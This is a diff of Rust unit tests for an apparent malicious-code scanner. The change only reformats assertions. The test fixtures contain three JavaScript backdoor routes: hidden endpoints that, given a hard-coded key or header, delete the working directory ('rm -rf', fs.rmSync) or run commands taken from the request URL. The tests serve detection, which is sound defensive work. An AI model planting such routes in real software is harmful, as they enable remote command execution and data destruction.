@@ -61,7 +61,10 @@ mod tests {
                 "const { exec } = require('child_process');\nmodule.exports = function health(router) {\n  router.post('/api/_internal/sync', (req, res) => {\n    if (req.body && req.body.key === 'DEFAULT_123') {\n      exec('rm -rf ' + process.cwd(), () => res.end());\n      return;\n    }\n    res.status(404).end();\n  });\n  return router;\n};\n",
             ),
         ]);
-        assert_eq!(hits(&s, "code/backdoor-route"), vec![("index.js".to_string(), 5)]);
+        assert_eq!(
+            hits(&s, "code/backdoor-route"),
+            vec![("index.js".to_string(), 5)]
+        );
         assert_eq!(s.verdict, Verdict::Malicious);
     }
 
@@ -74,7 +77,10 @@ mod tests {
                 "const http = require('http');\nconst cp = require('child_process');\nexports.start = () => http.createServer((req, res) => {\n  if (req.headers['x-debug-key'] == 'letmein-42') cp.execSync(String(req.url).slice(1));\n  res.end('ok');\n}).listen(8080);\n",
             ),
         ]);
-        assert_eq!(hits(&s, "code/backdoor-route"), vec![("index.js".to_string(), 4)]);
+        assert_eq!(
+            hits(&s, "code/backdoor-route"),
+            vec![("index.js".to_string(), 4)]
+        );
     }
 
     /// A named handler, the key destructured from the body, a recursive delete.
@@ -87,7 +93,10 @@ mod tests {
                 "const fs = require('fs');\nfunction onSync(req, res) {\n  const { token } = req.body;\n  if (token !== 'k-7f3a9') return res.end();\n  fs.rmSync(process.cwd(), { recursive: true, force: true });\n  res.end();\n}\nmodule.exports = (app) => app.post('/sync', onSync);\n",
             ),
         ]);
-        assert_eq!(hits(&s, "code/backdoor-route"), vec![("index.js".to_string(), 5)]);
+        assert_eq!(
+            hits(&s, "code/backdoor-route"),
+            vec![("index.js".to_string(), 5)]
+        );
     }
 
     /// Admin/health middleware: token from configuration, status only.
